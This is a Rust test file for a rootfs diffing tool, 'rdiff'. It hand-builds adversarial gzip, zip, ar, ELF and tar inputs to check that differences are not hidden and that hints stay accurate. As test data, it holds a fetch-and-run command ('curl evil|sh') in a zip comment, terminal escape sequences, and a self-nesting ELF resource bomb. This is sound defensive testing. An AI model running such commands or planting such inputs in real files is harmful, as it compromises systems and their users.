//! An adversarial pass over nested formats and hints: inputs built byte by byte (gzip
//! members, zip archives, ar archives, ELF files, tars) to make rdiff hide a difference,
//! say a false hint, fold what a hint does not explain, or blow up. Each test is one
//! hole found, pinned to what rdiff must say now; the inputs are made here, in a
//! temporary directory, so each test says exactly what differs.
//!
//! The principle: a byte that differs shows in some field (or a note says it was not
//! read), and a hint never says "nothing else differs" or "only" of what it did not see.

mod support;

use std::path::Path;
use std::time::Duration;

use serde_json::Value;
use support::paths::{s, tmp};
use support::rawtar::{Hdr, finish};
use support::run::{json_report, rdiff};

// ---------------------------------------------------------------------------------
// inputs made here

/// A tar of regular files `(path, data, mtime)`, GNU tar's ustar headers.
fn tar(files: &[(&str, &[u8], u64)]) -> Vec<u8> {
    let parts: Vec<Vec<u8>> = files
        .iter()
        .map(|(p, d, t)| Hdr::new(p).mtime(*t).member(d))
        .collect();
    finish(&parts.iter().map(Vec::as_slice).collect::<Vec<_>>())
}

/// Write `left.tar` and `right.tar` into `dir`: their paths.
fn pair(dir: &Path, left: &[u8], right: &[u8]) -> [String; 2] {
    let (l, r) = (dir.join("left.tar"), dir.join("right.tar"));
    std::fs::write(&l, left).unwrap();
    std::fs::write(&r, right).unwrap();
    [s(&l).to_string(), s(&r).to_string()]
}

/// `rdiff rootfs --format json FLAGS LEFT RIGHT`: exit code and report.
fn report(flags: &[&str], files: &[String; 2]) -> (i32, Value) {
    let mut args: Vec<&str> = flags.to_vec();
    args.extend(files.iter().map(String::as_str));
    json_report("rootfs", &args)
}

/// The text (or another format's) report, as bytes.
fn rendered(format: &str, flags: &[&str], files: &[String; 2]) -> Vec<u8> {
    let r = rdiff(["rootfs", "--format", format])
        .args(flags)
        .args(files)
        .run();
    assert!(r.code() == 1, "{}", r.describe());
    r.stdout
}

fn diffs(r: &Value) -> &Vec<Value> {
    r["differences"].as_array().unwrap()
}

/// The visible fields of the difference at `path`: (name, left, right).
fn visible_at(r: &Value, path: &str) -> Vec<(String, String, String)> {
    let v = |x: &Value| x.as_str().map_or(x.to_string(), str::to_string);
    diffs(r)
        .iter()
        .filter(|d| d["path"] == path && d["ignored_by"].is_null())
        .flat_map(|d| d["fields"].as_array().unwrap())
        .filter(|f| f["ignored_by"].is_null())
        .map(|f| {
            (
                f["name"].as_str().unwrap().into(),
                v(&f["left"]),
                v(&f["right"]),
            )
        })
        .collect()
}

fn names_at(r: &Value, path: &str) -> Vec<String> {
    visible_at(r, path).into_iter().map(|f| f.0).collect()
}

/// The hint with this id, if any.
fn hint<'a>(r: &'a Value, id: &str) -> Option<&'a Value> {
    r["hints"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["id"] == id)
}

fn note_kinds(r: &Value, path: &str) -> Vec<String> {
    r["notes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["path"] == path)
        .map(|n| n["kind"].as_str().unwrap().to_string())
        .collect()
}

// gzip, by hand: a member's header, deflate data of stored blocks, trailer.

fn crc32(data: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(data);
    c.sum()
}

/// Deflate data of stored blocks, one block ending at each cut.
fn stored(data: &[u8], cuts: &[usize]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut ends = cuts.to_vec();
    ends.push(data.len());
    let mut at = 0;
    for (k, &end) in ends.iter().enumerate() {
        let chunk = &data[at..end];
        at = end;
        out.push(u8::from(k == ends.len() - 1));
        out.extend((chunk.len() as u16).to_le_bytes());
        out.extend((!(chunk.len() as u16)).to_le_bytes());
        out.extend(chunk);
    }
    out
}

/// One gzip member: header with `mtime` (and an extra field when given), the deflate
/// data of `data` cut into stored blocks at `cuts`, trailer.
fn gz_member(data: &[u8], mtime: u32, extra: Option<&[u8]>, cuts: &[usize]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, if extra.is_some() { 4 } else { 0 }];
    out.extend(mtime.to_le_bytes());
    out.extend([0, 3]);
    if let Some(x) = extra {
        out.extend((x.len() as u16).to_le_bytes());
        out.extend(x);
    }
    out.extend(stored(data, cuts));
    out.extend(crc32(data).to_le_bytes());
    out.extend((data.len() as u32).to_le_bytes());
    out
}

// zip, by hand: stored members, each with its local header and central record.

#[derive(Clone, Copy)]
struct Zm<'a> {
    name: &'a [u8],
    data: &'a [u8],
    /// DOS time and date.
    when: (u16, u16),
    /// Unix mode (made on Unix), or 0.
    mode: u32,
    extra: &'a [u8],
}

/// 2023-11-14 22:13:20 and 2024-03-09 16:00:00, as DOS time and date.
const T1: (u16, u16) = (
    (22 << 11) | (13 << 5) | 10,
    ((2023 - 1980) << 9) | (11 << 5) | 14,
);
const T2: (u16, u16) = (16 << 11, ((2024 - 1980) << 9) | (3 << 5) | 9);

fn zm<'a>(name: &'a str, data: &'a [u8], when: (u16, u16)) -> Zm<'a> {
    Zm {
        name: name.as_bytes(),
        data,
        when,
        mode: 0,
        extra: b"",
    }
}

fn zip(members: &[Zm<'_>], comment: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for m in members {
        let offset = out.len() as u32;
        let crc = crc32(m.data);
        let common = |v: &mut Vec<u8>| {
            v.extend(20u16.to_le_bytes()); // version needed
            v.extend(0u16.to_le_bytes()); // flags
            v.extend(0u16.to_le_bytes()); // stored
            v.extend(m.when.0.to_le_bytes());
            v.extend(m.when.1.to_le_bytes());
            v.extend(crc.to_le_bytes());
            v.extend((m.data.len() as u32).to_le_bytes());
            v.extend((m.data.len() as u32).to_le_bytes());
            v.extend((m.name.len() as u16).to_le_bytes());
            v.extend((m.extra.len() as u16).to_le_bytes());
        };
        out.extend(b"PK\x03\x04");
        common(&mut out);
        out.extend(m.name);
        out.extend(m.extra);
        out.extend(m.data);
        central.extend(b"PK\x01\x02");
        central.extend((3u16 << 8 | 20).to_le_bytes()); // made by: Unix
        common(&mut central);
        central.extend(0u16.to_le_bytes()); // comment length
        central.extend(0u16.to_le_bytes()); // disk
        central.extend(0u16.to_le_bytes()); // internal attributes
        central.extend((m.mode << 16).to_le_bytes());
        central.extend(offset.to_le_bytes());
        central.extend(m.name);
        central.extend(m.extra);
    }
    let at = out.len() as u32;
    out.extend(&central);
    out.extend(b"PK\x05\x06");
    out.extend([0, 0, 0, 0]);
    out.extend((members.len() as u16).to_le_bytes());
    out.extend((members.len() as u16).to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend((comment.len() as u16).to_le_bytes());
    out.extend(comment);
    out
}

/// An ar archive of `(name, data, mtime)`.
fn ar(members: &[(&str, &[u8], u64)]) -> Vec<u8> {
    let mut out = b"!<arch>\n".to_vec();
    for (name, data, mtime) in members {
        let field = |v: String, w: usize| format!("{v:<w$}").into_bytes();
        out.extend(field(format!("{name}/"), 16));
        out.extend(field(mtime.to_string(), 12));
        out.extend(field("0".into(), 6));
        out.extend(field("0".into(), 6));
        out.extend(field("100644".into(), 8));
        out.extend(field(data.len().to_string(), 10));
        out.extend(b"`\n");
        out.extend(*data);
        if data.len() % 2 == 1 {
            out.push(b'\n');
        }
    }
    out
}

// ELF, by hand: a 64-bit executable with one program header (PT_GNU_STACK) and the
// sections .note.gnu.build-id, .text and .shstrtab.

fn put_u16(v: &mut Vec<u8>, x: u16) {
    v.extend(x.to_le_bytes());
}
fn put_u32(v: &mut Vec<u8>, x: u32) {
    v.extend(x.to_le_bytes());
}
fn put_u64(v: &mut Vec<u8>, x: u64) {
    v.extend(x.to_le_bytes());
}

/// A section header.
#[allow(clippy::too_many_arguments)]
fn shdr(v: &mut Vec<u8>, name: u32, kind: u32, flags: u64, off: u64, size: u64, align: u64) {
    put_u32(v, name);
    put_u32(v, kind);
    put_u64(v, flags);
    put_u64(v, 0); // address
    put_u64(v, off);
    put_u64(v, size);
    put_u32(v, 0); // link
    put_u32(v, 0); // info
    put_u64(v, align);
    put_u64(v, 0); // entry size
}

/// The ELF header, for `shnum` sections at `shoff` (the last the names) and `phnum`
/// program headers at 64.
fn ehdr(v: &mut Vec<u8>, phnum: u16, shoff: u64, shnum: u16) {
    v.extend(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    put_u16(v, 2); // executable
    put_u16(v, 62); // x86-64
    put_u32(v, 1);
    put_u64(v, 0x40_1000); // entry
    put_u64(v, if phnum > 0 { 64 } else { 0 });
    put_u64(v, shoff);
    put_u32(v, 0);
    put_u16(v, 64);
    put_u16(v, 56);
    put_u16(v, phnum);
    put_u16(v, 64);
    put_u16(v, shnum);
    put_u16(v, shnum - 1);
}

fn elf(build_id: [u8; 20], stack_flags: u32) -> Vec<u8> {
    let names = b"\0.note.gnu.build-id\0.text\0.shstrtab\0";
    let (note_at, text_at, names_at) = (120u64, 156u64, 172u64);
    let shoff = (names_at + names.len() as u64).div_ceil(8) * 8;
    let mut v = Vec::new();
    ehdr(&mut v, 1, shoff, 4);
    // PT_GNU_STACK: its flags say whether the stack is executable.
    put_u32(&mut v, 0x6474_e551);
    put_u32(&mut v, stack_flags);
    for _ in 0..5 {
        put_u64(&mut v, 0);
    }
    put_u64(&mut v, 16);
    assert_eq!(v.len() as u64, note_at);
    put_u32(&mut v, 4);
    put_u32(&mut v, 20);
    put_u32(&mut v, 3); // NT_GNU_BUILD_ID
    v.extend(b"GNU\0");
    v.extend(build_id);
    assert_eq!(v.len() as u64, text_at);
    v.extend([0xc3; 16]);
    v.extend(names);
    v.resize(shoff as usize, 0);
    v.extend([0u8; 64]);
    shdr(&mut v, 1, 7, 2, note_at, 36, 4);
    shdr(&mut v, 20, 1, 6, text_at, 16, 16);
    shdr(&mut v, 26, 3, 0, names_at, names.len() as u64, 1);
    v
}

/// An ELF file whose `n` sections (all named apart) each span the whole file: each is
/// an ELF file in turn, and so on.
fn elf_of_selves(n: usize, tag: &[u8]) -> Vec<u8> {
    let mut names = vec![0u8];
    let mut at = Vec::new();
    for i in 0..n {
        at.push(names.len() as u32);
        names.extend(format!("s{i}\0").bytes());
    }
    let strtab = names.len() as u32;
    names.extend(b".shstrtab\0");
    names.extend(tag);
    let shoff = (64 + names.len() as u64).div_ceil(8) * 8;
    let total = shoff + (n as u64 + 2) * 64;
    let mut v = Vec::new();
    ehdr(&mut v, 0, shoff, n as u16 + 2);
    v.extend(&names);
    v.resize(shoff as usize, 0);
    v.extend([0u8; 64]);
    for name in at {
        shdr(&mut v, name, 1, 0, 0, total, 1);
    }
    shdr(&mut v, strtab, 3, 0, 64, names.len() as u64, 1);
    assert_eq!(v.len() as u64, total);
    v
}

// ---------------------------------------------------------------------------------
// gzip-mtime: "nothing else differs" only when gzip -n would make the two the same

#[test]
fn gzip_mtime_is_not_all_when_the_deflate_data_differs() {
    let dir = tmp();
    let text = b"line of text\n".repeat(20);
    // The same text in other stored blocks: the same size, other bytes.
    let l = gz_member(&text, 1_700_000_000, None, &[100]);
    let r = gz_member(&text, 1_710_000_000, None, &[50]);
    assert_eq!(l.len(), r.len());
    let files = pair(
        dir.path(),
        &tar(&[("x.gz", &l, 1)]),
        &tar(&[("x.gz", &r, 1)]),
    );
    let (code, rep) = report(&[], &files);
    assert_eq!(code, 1);
    let names = names_at(&rep, "x.gz");
    assert!(names.contains(&"gzip.mtime".to_string()), "{names:?}");
    assert!(names.contains(&"gzip.encoding".to_string()), "{names:?}");
    let h = hint(&rep, "gzip-mtime").expect("gzip-mtime");
    let said = h["text"].as_str().unwrap();
    assert!(!said.contains("nothing else differs"), "{said}");

    // The same deflate data: the mtime is all, and the hint says so.
    let r = gz_member(&text, 1_710_000_000, None, &[100]);
    let files = pair(
        dir.path(),
        &tar(&[("x.gz", &l, 1)]),
        &tar(&[("x.gz", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    assert_eq!(names_at(&rep, "x.gz"), ["content", "gzip.mtime"]);
    let said = hint(&rep, "gzip-mtime").unwrap()["text"].as_str().unwrap();
    assert!(said.contains("nothing else differs in it"), "{said}");
}

#[test]
fn gzip_mtime_is_not_all_when_a_later_members_header_differs() {
    // Two members; the second one's extra field differs in its bytes, not its length,
    // which is all the members' summary (`gzip.extra`: "4 bytes") tells.
    let dir = tmp();
    let (a, b) = (b"hello\n".repeat(10), b"world\n".repeat(10));
    let l = [
        gz_member(&a, 1, None, &[]),
        gz_member(&b, 5, Some(b"XXXX"), &[]),
    ]
    .concat();
    let r = [
        gz_member(&a, 2, None, &[]),
        gz_member(&b, 5, Some(b"YYYY"), &[]),
    ]
    .concat();
    let files = pair(
        dir.path(),
        &tar(&[("x.gz", &l, 1)]),
        &tar(&[("x.gz", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    let names = names_at(&rep, "x.gz");
    assert!(names.contains(&"gzip.encoding".to_string()), "{names:?}");
    let said = hint(&rep, "gzip-mtime").unwrap()["text"].as_str().unwrap();
    assert!(!said.contains("nothing else differs"), "{said}");
}

// ---------------------------------------------------------------------------------
// elf-build-id: "nothing else differs" only when nothing else does

#[test]
fn elf_build_id_is_not_all_when_a_program_header_differs() {
    let dir = tmp();
    // The right one's stack is executable (PF_R|PF_W|PF_X), and its build ID another.
    let l = elf([0x11; 20], 6);
    let r = elf([0x22; 20], 7);
    let files = pair(
        dir.path(),
        &tar(&[("usr/bin/x", &l, 1)]),
        &tar(&[("usr/bin/x", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    let names = names_at(&rep, "usr/bin/x");
    assert!(names.contains(&"elf.build_id".to_string()), "{names:?}");
    assert!(names.contains(&"elf.other_bytes".to_string()), "{names:?}");
    let said = hint(&rep, "elf-build-id").unwrap()["text"]
        .as_str()
        .unwrap();
    assert!(!said.contains("nothing else differs"), "{said}");

    // The build ID alone: the hint says so, and no other field shows.
    let r = elf([0x22; 20], 6);
    let files = pair(
        dir.path(),
        &tar(&[("usr/bin/x", &l, 1)]),
        &tar(&[("usr/bin/x", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    assert_eq!(names_at(&rep, "usr/bin/x"), ["content", "elf.build_id"]);
    let said = hint(&rep, "elf-build-id").unwrap()["text"]
        .as_str()
        .unwrap();
    assert!(said.contains("In it nothing else differs"), "{said}");
}

// ---------------------------------------------------------------------------------
// zip: what the reader saw is what the archive holds

#[test]
fn zip_symlink_targets_are_never_cut_by_the_budget() {
    let dir = tmp();
    let long = |end: &str| format!("/safe/{}/{end}", "a".repeat(3000));
    let (t1l, t1r) = (long("ok"), long("no"));
    let (t1l, t1r) = (t1l.as_str(), t1r.as_str());
    fn link<'a>(name: &'a str, t: &'a str) -> Zm<'a> {
        Zm {
            mode: 0o120_777,
            ..zm(name, t.as_bytes(), T1)
        }
    }
    let l = zip(&[link("link1", t1l), link("link2", "/a")], b"");
    let r = zip(&[link("link1", t1r), link("link2", "/b")], b"");
    let files = pair(
        dir.path(),
        &tar(&[("x.zip", &l, 1)]),
        &tar(&[("x.zip", &r, 1)]),
    );
    let cap = (l.len() + r.len() + 100).to_string();
    for flags in [vec![], vec!["--max-nested-bytes", cap.as_str()]] {
        let (_, rep) = report(&flags, &files);
        // Every target shown is a whole one.
        let targets: Vec<(String, String, String)> = ["x.zip!/link1", "x.zip!/link2"]
            .iter()
            .flat_map(|p| visible_at(&rep, p))
            .filter(|f| f.0 == "link_target")
            .collect();
        for (_, a, b) in &targets {
            for v in [a, b] {
                assert!(
                    [t1l, t1r, "/a", "/b"].contains(&v.as_str()),
                    "{flags:?}: a target cut short: {v:.60}"
                );
            }
        }
        // Either both links are compared, or the archive is said not to be opened.
        if targets.len() < 2 {
            assert!(
                note_kinds(&rep, "x.zip").contains(&"nested-not-opened".to_string()),
                "{flags:?}: {targets:?} {}",
                rep["notes"]
            );
        }
    }
}

#[test]
fn zip_with_a_name_twice_is_not_compared_as_one_member() {
    let dir = tmp();
    // The first a.txt differs in content; the second, the one a reader keeping the
    // last record sees, only in its time.
    let l = zip(
        &[
            zm("a.txt", b"EVIL-LEFT", T1),
            zm("a.txt", b"same", T1),
            zm("b.txt", b"b", T1),
        ],
        b"",
    );
    let r = zip(
        &[
            zm("a.txt", b"GOOD-RIGHT", T2),
            zm("a.txt", b"same", T2),
            zm("b.txt", b"b", T2),
        ],
        b"",
    );
    let files = pair(
        dir.path(),
        &tar(&[("x.zip", &l, 1)]),
        &tar(&[("x.zip", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    assert!(hint(&rep, "zip-timestamps").is_none(), "{}", rep["hints"]);
    assert!(
        note_kinds(&rep, "x.zip").contains(&"nested-malformed".to_string()),
        "{}",
        rep["notes"]
    );
    // Nothing inside is folded as "differs in nothing else".
    let text = String::from_utf8(rendered("text", &[], &files)).unwrap();
    assert!(!text.contains("folded here"), "{text}");
}

#[test]
fn zip_extended_timestamp_with_more_bytes_is_seen_and_not_hidden_as_a_time() {
    let dir = tmp();
    let ut = |t: u32, tail: &[u8]| {
        let mut x = vec![0x55, 0x54];
        x.extend((5 + tail.len() as u16).to_le_bytes());
        x.push(1);
        x.extend(t.to_le_bytes());
        x.extend(tail);
        x
    };
    let (el, er) = (ut(1_700_000_000, b""), ut(1_700_000_000, b"EVIL-PAYLOAD"));
    let z = |extra: &[u8]| {
        zip(
            &[Zm {
                extra,
                ..zm("a.txt", b"same", T1)
            }],
            b"",
        )
    };
    let files = pair(
        dir.path(),
        &tar(&[("x.zip", &z(&el), 1)]),
        &tar(&[("x.zip", &z(&er), 1)]),
    );
    for flags in [&[][..], &["--semantic"]] {
        let (_, rep) = report(flags, &files);
        let names = names_at(&rep, "x.zip!/a.txt");
        assert!(
            names.iter().any(|n| n.starts_with("zip.extra.0x5455")),
            "{flags:?}: {names:?}"
        );
    }
}

/// Two jars whose members' times differ, and `right` holds what else is given.
fn jars(right_more: &[Zm<'_>], comment: [&[u8]; 2]) -> [Vec<u8>; 2] {
    let l = zip(&[zm("a.txt", b"a", T1), zm("b.txt", b"b", T1)], comment[0]);
    let mut rm = vec![zm("a.txt", b"a", T2), zm("b.txt", b"b", T2)];
    rm.extend(right_more.iter().copied());
    let r = zip(&rm, comment[1]);
    [l, r]
}

#[test]
fn zip_timestamps_is_said_of_members_that_differ_in_times_only() {
    let dir = tmp();
    let [l, r] = jars(&[], [b"", b""]);
    let files = pair(
        dir.path(),
        &tar(&[("app.jar", &l, 1)]),
        &tar(&[("app.jar", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    let said = hint(&rep, "zip-timestamps").expect("zip-timestamps")["text"]
        .as_str()
        .unwrap();
    assert!(
        said.starts_with("the members of app.jar that differ differ only in their times"),
        "{said}"
    );
}

#[test]
fn zip_timestamps_not_said_when_a_member_is_added() {
    let dir = tmp();
    let [l, r] = jars(
        &[zm("evil.class", b"\xca\xfe\xba\xbe payload", T2)],
        [b"", b""],
    );
    let files = pair(
        dir.path(),
        &tar(&[("app.jar", &l, 1)]),
        &tar(&[("app.jar", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    assert!(
        diffs(&rep)
            .iter()
            .any(|d| d["path"] == "app.jar!/evil.class"),
        "{}",
        rep["differences"]
    );
    assert!(hint(&rep, "zip-timestamps").is_none(), "{}", rep["hints"]);
}

#[test]
fn zip_timestamps_not_said_when_the_archive_comment_differs() {
    let dir = tmp();
    let [l, r] = jars(&[], [b"release=1", b"release=2; curl evil|sh"]);
    let files = pair(
        dir.path(),
        &tar(&[("app.jar", &l, 1)]),
        &tar(&[("app.jar", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    assert!(names_at(&rep, "app.jar").contains(&"zip.comment".to_string()));
    assert!(hint(&rep, "zip-timestamps").is_none(), "{}", rep["hints"]);
}

#[test]
fn zip_timestamps_not_said_of_a_directory_named_like_an_archive() {
    // No archive at all: a directory `a.zip!` whose file's mtime differs.
    let dir = tmp();
    let files = pair(
        dir.path(),
        &tar(&[("a.zip!/m", b"same\n", 1_700_000_000)]),
        &tar(&[("a.zip!/m", b"same\n", 1_710_000_000)]),
    );
    let (_, rep) = report(&[], &files);
    assert!(hint(&rep, "zip-timestamps").is_none(), "{}", rep["hints"]);
}

/// A real file whose path has `!/` in it (under a directory named `a.gz!`) and a
/// member of the gzip file `a.gz` are both `a.gz!/a`: the member's difference says
/// which file it is `inside`, the real file's does not.
#[test]
fn a_real_path_with_the_nested_separator_is_told_from_a_member() {
    let dir = tmp();
    let gz = |t: &[u8]| gz_member(t, 0, None, &[]);
    let (gl, gr) = (gz(b"inner-left\n"), gz(b"inner-right\n"));
    let files = pair(
        dir.path(),
        &tar(&[("a.gz", &gl, 1), ("a.gz!/a", b"real-left\n", 1)]),
        &tar(&[("a.gz", &gr, 1), ("a.gz!/a", b"real-right\n", 1)]),
    );
    let (_, rep) = report(&[], &files);
    let same: Vec<&Value> = diffs(&rep)
        .iter()
        .filter(|d| d["path"] == "a.gz!/a")
        .collect();
    assert_eq!(same.len(), 2);
    assert_ne!(
        same[0], same[1],
        "two differences at a.gz!/a, one a real file and one a member, told apart by nothing but their values"
    );
    let inside: Vec<&Value> = same.iter().map(|d| &d["inside"]).collect();
    assert!(inside.contains(&&Value::Null), "{inside:?}");
    assert!(inside.contains(&&Value::from("a.gz")), "{inside:?}");
}

// ---------------------------------------------------------------------------------
// ar: a name given twice

#[test]
fn ar_member_before_another_of_its_name_is_not_compared_as_nothing() {
    let dir = tmp();
    let l = ar(&[("u.o", b"code-v1", 1_700_000_000), ("u.o", b"same", 1)]);
    let r = ar(&[("u.o", b"code-v2", 1_700_000_000), ("u.o", b"same", 1)]);
    let files = pair(
        dir.path(),
        &tar(&[("usr/lib/libx.a", &l, 1)]),
        &tar(&[("usr/lib/libx.a", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    let names = names_at(&rep, "usr/lib/libx.a");
    assert!(names.contains(&"ar.duplicates".to_string()), "{names:?}");
    // And the same earlier member, its time aside, is no difference.
    let r = ar(&[("u.o", b"code-v1", 1_710_000_000), ("u.o", b"same", 1)]);
    let files = pair(
        dir.path(),
        &tar(&[("usr/lib/libx.a", &l, 1)]),
        &tar(&[("usr/lib/libx.a", &r, 1)]),
    );
    let (_, rep) = report(&[], &files);
    assert!(!names_at(&rep, "usr/lib/libx.a").contains(&"ar.duplicates".to_string()));
}

// ---------------------------------------------------------------------------------
// bounds: members that share bytes

#[test]
fn elf_sections_spanning_the_whole_file_do_not_multiply() {
    // 20 sections, each the whole file: opened in turn, each is the same 20 sections,
    // down to --max-depth. Nothing was paid for them (a stream's one member is free),
    // so 20^8 openings: hours and gigabytes from 3 KiB. Each must be paid for.
    let dir = tmp();
    let (l, r) = (elf_of_selves(20, b"L"), elf_of_selves(20, b"R"));
    let files = pair(
        dir.path(),
        &tar(&[("bomb", &l, 1)]),
        &tar(&[("bomb", &r, 1)]),
    );
    let run = rdiff([
        "rootfs",
        "--format",
        "json",
        "--max-nested-bytes",
        "2000000",
    ])
    .args(&files)
    .timeout(Duration::from_secs(120))
    .run();
    assert_eq!(run.code(), 1, "{}", run.describe());
    let rep = run.json();
    let n = diffs(&rep).len();
    // What 2 MB pays for: about 2000000 / 1400 sections copied, each one difference.
    assert!(n < 5_000, "{n} differences");
}

// ---------------------------------------------------------------------------------
// what reaches the terminal

#[test]
fn escape_sequences_in_contents_never_reach_the_terminal() {
    let dir = tmp();
    let esc = b"\x1b]0;pwned\x07\x1b[2J\x1b[8m";
    let text = |tail: &[u8]| [b"hello\n".as_slice(), esc, tail, b"\n"].concat();
    let (tl, tr) = (text(b"1"), text(b"2"));
    let (zl, zr) = (
        zip(&[zm("a.txt", &tl, T1)], b""),
        zip(&[zm("a.txt", &tr, T1)], b""),
    );
    let files = pair(
        dir.path(),
        &tar(&[("a.txt", &tl, 1), ("x.zip", &zl, 1)]),
        &tar(&[("a.txt", &tr, 1), ("x.zip", &zr, 1)]),
    );
    for format in ["text", "markdown"] {
        let out = rendered(format, &[], &files);
        assert!(
            !out.contains(&0x1b),
            "{format}: {}",
            String::from_utf8_lossy(&out)
        );
        let out = String::from_utf8(out).unwrap();
        assert!(out.contains("\\u{1b}[2J"), "{format}: {out}");
    }
}

// ---------------------------------------------------------------------------------
// folding

/// 20 files whose mtime moved by one SOURCE_DATE_EPOCH to another, and after them two
/// that differ in more: a mode (setuid) and a content.
fn shifted_and_two_more() -> (Vec<u8>, Vec<u8>) {
    let (a, b) = (1_700_000_000, 1_710_000_000);
    let mut l: Vec<Vec<u8>> = Vec::new();
    let mut r: Vec<Vec<u8>> = Vec::new();
    for i in 0..20 {
        let p = format!("a/f{i:02}");
        l.push(Hdr::new(&p).mtime(a).member(b"same\n"));
        r.push(Hdr::new(&p).mtime(b).member(b"same\n"));
    }
    l.push(Hdr::new("z/mode").mtime(a).member(b"m\n"));
    r.push(Hdr::new("z/mode").mtime(b).mode(0o4755).member(b"m\n"));
    l.push(Hdr::new("z/real").mtime(a).member(b"one\n"));
    r.push(Hdr::new("z/real").mtime(b).member(b"two\n"));
    let f = |v: &[Vec<u8>]| finish(&v.iter().map(Vec::as_slice).collect::<Vec<_>>());
    (f(&l), f(&r))
}

#[test]
fn max_entries_shown_is_not_spent_on_folded_entries() {
    let dir = tmp();
    let (l, r) = shifted_and_two_more();
    let files = pair(dir.path(), &l, &r);
    // The input's digest and the two others: three to list, 20 folded before them.
    // (The HTML page draws the folded entries it keeps: there they count among the N.)
    for (format, listed) in [("text", "~ {}"), ("markdown", "| ~ | <code>{}</code>")] {
        let out =
            String::from_utf8(rendered(format, &["--max-entries-shown", "3"], &files)).unwrap();
        for name in ["mode", "real"] {
            let want = listed.replace("{}", name);
            assert!(out.contains(&want), "{format}: z/{name} not listed:\n{out}");
        }
    }
    let text = String::from_utf8(rendered("text", &["--max-entries-shown", "3"], &files)).unwrap();
    assert!(text.contains("~ mode") && text.contains("~ real"), "{text}");
    assert!(
        text.contains("20 of them differ in nothing else: folded here"),
        "{text}"
    );
    // JSON lists every difference, folded or not: the first three.
    let (_, rep) = report(&["--max-entries-shown", "3"], &files);
    assert_eq!(diffs(&rep).len(), 3);
}

#[test]
fn timestamp_shift_folds_only_what_it_explains_whole() {
    // Three files whose mtime moved by one amount; two of them also have a ctime that
    // moved by another amount (its own hint). Folded under the mtime hint, those two
    // would be said to "differ in nothing else" than their mtime.
    let dir = tmp();
    // The ctime as a PAX record, as a POSIX tar writes it (the tar crate's).
    let tar_of = |files: [(&str, u64, &str); 3]| {
        let mut b = tar::Builder::new(Vec::new());
        for (p, mtime, ctime) in files {
            b.append_pax_extensions([("ctime", ctime.as_bytes())])
                .unwrap();
            let mut h = tar::Header::new_ustar();
            h.set_path(p).unwrap();
            h.set_size(5);
            h.set_mode(0o644);
            h.set_mtime(mtime);
            h.set_cksum();
            b.append(&h, &b"same\n"[..]).unwrap();
        }
        b.into_inner().unwrap()
    };
    let (a, b) = (1_700_000_000, 1_710_000_000);
    let l = tar_of([
        ("f1", a, "1600000000"),
        ("f2", a, "1600000000"),
        ("f3", a, "1600000000"),
    ]);
    let r = tar_of([
        ("f1", b, "1600000100"),
        ("f2", b, "1600000100"),
        ("f3", b, "1600000000"),
    ]);
    let files = pair(dir.path(), &l, &r);
    let text = String::from_utf8(rendered("text", &[], &files)).unwrap();
    for p in ["f1", "f2"] {
        assert!(text.contains(&format!("~ {p}")), "{p} not listed:\n{text}");
    }
    assert!(!text.contains("~ f3"), "{text}");
}
